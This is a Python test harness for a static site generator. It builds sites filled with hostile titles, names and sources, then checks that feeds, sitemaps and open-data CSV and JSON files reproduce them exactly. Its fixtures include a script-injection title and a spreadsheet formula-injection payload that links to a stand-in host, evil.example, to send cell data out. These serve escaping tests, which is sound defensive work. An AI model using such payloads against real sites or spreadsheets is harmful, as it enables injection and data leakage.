"""What programs read of sites whose texts are hostile, of one without an article, and of one below a path:
feeds, sitemaps, structured and open data and files at fixed places must pass their checks, and what went in must be
read back: titles by feedparser, and titles, names, posts, quotations and sources from open data.

    python3 hostile_sites.py DATELINE [--schemas DIR]
"""

import argparse
import csv
import io
import json
import pathlib
import subprocess
import sys
import tempfile

import feedparser

HERE = pathlib.Path(__file__).parent
AS_OF = "2026-11-22T00:00:00Z"
# Markup, quotation marks, emoji, right-to-left text, what looks like XML, templates and references.
TITLES = [
    "</title><script>alert(1)</script>",
    "</item></channel></rss><entry>",
    "]]> & &amp; &#0; &lt; %s ${x} {{ y }}",
    "\"quoted\" 'twice' <b>bold</b>",
    "عنوان من اليمين إلى اليسار (2025)",
    "🏳️‍🌈 👩🏽‍🚀 emoji 🇨🇦",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y \"z\">]>",
    "a\u00a0b\u2028c\u00adé\ufffd",
    "x" * 300,
]
# What spreadsheets take for formulas.
FORMULAS = ["=HYPERLINK(\"//evil.example?\"&A1)", "+1", "-1;2", "@SUM(A1)", "'", "'=1", "\uff1d1", "a;=1", "a,b\"c"]
SETTINGS = 'title = "A & <b>"\ndescription = "</channel> & co"\nbase_url = "https://hostile.example{}"\nfeeds = ["atom", "rss", "json"]\nfeed_content = "{}"\n'
# The site's data and every file at a fixed place, with what its settings let in.
FIXED = """
[api]
licence = "https://hostile.example/terms/[1]?a='b'&ü=%"
attribution = "</script>&amp; A"

[robots]
search = true
ai_train = false
disallow = ["/*?<script>", "/%00", "/:x/$"]

[[robots.groups]]
agents = ["ExampleBot"]
disallow = ["/"]

[security_txt]
contact = ["https://hostile.example/?a=1&b='i'", "mailto:a'b@hostile.example"]
expires = 2041-01-01
encryption = "openpgp4fpr:<i>&"

[trust_txt]
social = "https://social.example/?a=1&b='2'"
datatrainingallowed = false

[humans_txt]
team = ["</title><script>alert(1)</script>", "*/ {{ y }} /*"]

[hosting]
hosts = ["cloudflare-pages", "netlify", "github-pages", "vercel", "azure-static-web-apps"]
speculation_rules = true

[hosting.headers]
X-Test = 'a "b"; <c>: {{ d }} \\'
"""


def article(at, title):
    text = json.dumps(title, ensure_ascii=False)
    return f"""+++
title = {text}
date = 2025-11-{10 + at}
summary = {text}
topics = [{json.dumps("T " + title[:80], ensure_ascii=False)}]
authors = ["A & <i>B</i>", "Bo Byline"]
officials = ["o-{at}"]
[[sources]]
title = {json.dumps(FORMULAS[at], ensure_ascii=False)}
note = {text}
[[quotes]]
text = {text}
speaker_name = {json.dumps(FORMULAS[at], ensure_ascii=False)}
[[corrections]]
date = 2025-11-{11 + at}
text = {json.dumps(FORMULAS[at], ensure_ascii=False)}
+++
{title}

> {title}
"""


def official(at, title):
    return f"""+++
name = {json.dumps(name_of(at), ensure_ascii=False)}
country = "CA"
[[posts]]
title = {json.dumps(title, ensure_ascii=False)}
start = 2020
source = {json.dumps(FORMULAS[at], ensure_ascii=False)}
+++
"""


def name_of(at):
    return f"{FORMULAS[at]} O-{at}"


def sites():
    """(name, path below the host, files)"""
    articles = {f"content/articles/a-{at}.md": article(at, title) for at, title in enumerate(TITLES)}
    articles |= {f"content/officials/o-{at}.md": official(at, title) for at, title in enumerate(TITLES)}
    yield "hostile", "", {"site.toml": SETTINGS.format("", "full") + FIXED, **articles}
    yield "hostile, below a path", "/a/b", {"site.toml": SETTINGS.format("/a/b", "summary") + FIXED, **articles}
    yield "empty", "/a", {"site.toml": SETTINGS.format("/a", "full") + FIXED}


def read_back(folder, titles):
    problems = []
    for name in ("feed.xml", "rss.xml"):
        parsed = feedparser.parse((folder / name).read_bytes(), sanitize_html=False)
        found = [entry.title for entry in parsed.entries]
        if found != titles:
            problems.append(f"{name}: read back {found}, not {titles}")
        if titles and [a.get("name") for a in parsed.entries[0].authors] != ["A & <i>B</i>", "Bo Byline"]:
            problems.append(f"{name}: authors {parsed.entries[0].authors}")
    found = [item["title"] for item in json.loads((folder / "feed.json").read_text())["items"]]
    if found != titles:
        problems.append(f"feed.json: read back {found}, not {titles}")
    return problems


def table(path):
    """The lines of a table, as whoever knows of the apostrophe reads them."""
    lines = list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
    return [{name: field.removeprefix("'") for name, field in line.items()} for line in lines]


def data_read_back(folder, count):
    """What went in, out of news items, Popolo and tables."""
    if not count:
        return []
    data, numbers = folder / "data", range(count)
    items = json.loads((folder / "ninjs.json").read_text())["associations"][::-1]
    country = json.loads((data / "popolo/canada.json").read_text())
    quotes, sources = table(data / "quotations/2025-11.csv"), table(data / "sources/2025-11.csv")
    officials, posts = table(data / "officials.csv"), table(data / "posts.csv")
    names, formulas = [name_of(at) for at in numbers], FORMULAS[:count]
    same = [
        ("headlines", [i["headlines"][0]["value"] for i in items], TITLES),
        ("summaries", [i["descriptions"][0]["value"] for i in items], TITLES),
        ("dates", [i["firstCreated"] for i in items], [f"2025-11-{10 + at}T00:00:00+00:00" for at in numbers]),
        ("corrected", [i["versionCreated"] for i in items], [f"2025-11-{11 + at}T00:00:00+00:00" for at in numbers]),
        ("people", [i["people"][0]["name"] for i in items], names),
        ("authors", {i["by"] for i in items}, {"A & <i>B</i>, Bo Byline"}),
        ("infoSources", [i["infoSources"][0]["name"] for i in items], formulas),
        ("persons", sorted(p["name"] for p in country["persons"]), sorted(names)),
        ("memberships", sorted(m["role"] for m in country["memberships"]), sorted(TITLES)),
        ("officials.csv", sorted(o["name"] for o in officials), sorted(names)),
        ("posts.csv", sorted((p["official"], p["title"], p["source"]) for p in posts), sorted(zip(names, TITLES, formulas))),
        ("quotations", [(q["text"], q["speaker"]) for q in quotes], list(zip(TITLES, formulas))),
        ("sources", [(s["title"], s["note"]) for s in sources], list(zip(formulas, TITLES))),
        ("corrections", [c["text"] for c in table(data / "corrections/2025.csv")], formulas),
    ]
    return [f"{what}: read back {found}, not {expected}" for what, found, expected in same if found != expected]


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("dateline", type=pathlib.Path)
    p.add_argument("--schemas")
    a = p.parse_args()
    dateline, failed = a.dateline.resolve(), 0
    schemas = ["--schemas", a.schemas] if a.schemas else []
    checks = [
        (sys.executable, "feeds.py", "--markup"),
        (sys.executable, "rss_opml.py"),
        ("node", "json_feeds.mjs"),
        (sys.executable, "sitemaps.py", *schemas),
        (sys.executable, "fixed_files.py"),
        (sys.executable, "structured_data.py"),
        (sys.executable, "open_data.py"),
        ("node", "structured_types.mjs"),
    ]
    for name, _, files in sites():
        with tempfile.TemporaryDirectory() as folder:
            root = pathlib.Path(folder)
            for path, text in files.items():
                (root / path).parent.mkdir(parents=True, exist_ok=True)
                (root / path).write_text(text, encoding="utf-8")
            done = subprocess.run([dateline, "build", "--quiet", "--as-of", AS_OF], cwd=root, capture_output=True, text=True)
            problems = [] if done.returncode == 0 else [done.stdout + done.stderr]
            if not problems:
                titles = TITLES[::-1] if len(files) > 1 else []
                problems = read_back(root / "public", titles) + data_read_back(root / "public", len(titles))
                for program, check, *more in checks:
                    done = subprocess.run([program, HERE / check, root / "public", *more], capture_output=True, text=True)
                    problems += [] if done.returncode == 0 else [f"{check}:\n{done.stdout}{done.stderr}"]
            for problem in problems:
                print(f"  FAIL {name}: {problem}")
            failed += bool(problems)
            print(f"  {name}: {'failed' if problems else 'ok'}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
